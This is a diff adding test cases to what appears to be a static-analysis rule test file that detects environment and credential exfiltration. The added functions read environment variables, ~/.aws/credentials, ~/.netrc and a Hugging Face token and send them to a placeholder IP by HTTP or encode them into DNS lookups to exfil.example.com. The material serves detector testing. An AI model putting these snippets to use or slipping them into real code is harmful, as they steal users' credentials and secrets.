@@ -86,6 +86,12 @@ def env_dns(host_suffix):
     socket.gethostbyname(f"{blob}.{host_suffix}")
 
 
+def env_comprehension():
+    data = json.dumps({k: v for k, v in os.environ.items()}).encode()
+    # ruleid: environment-exfiltration
+    urllib.request.urlopen("http://203.0.113.7/r", data=data)
+
+
 def log_metrics(step, loss):
     rank = int(os.environ.get("RANK", "0"))
     # ok: environment-exfiltration, credential-exfiltration
@@ -116,6 +122,24 @@ def steal_hf_token():
     token = (Path.home() / ".cache" / "huggingface/token").read_text()
     # ruleid: credential-exfiltration
     urllib.request.urlopen("http://203.0.113.7/t?" + token)
+
+
+def aws_credentials_as_upload():
+    with open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")) as f:
+        # ruleid: credential-exfiltration
+        requests.post("https://203.0.113.7/c", files={"f": f})
+
+
+def token_in_dns_name():
+    tok = os.getenv("HF_TOKEN", "")
+    # ruleid: credential-exfiltration
+    socket.gethostbyname(tok + ".exfil.example.com")
+
+
+def session_positional_body(session):
+    blob = open(os.path.expanduser("~/.netrc")).read()
+    # ruleid: credential-exfiltration
+    session.post("https://203.0.113.7/n", blob)
 
 
 def token_in_body():
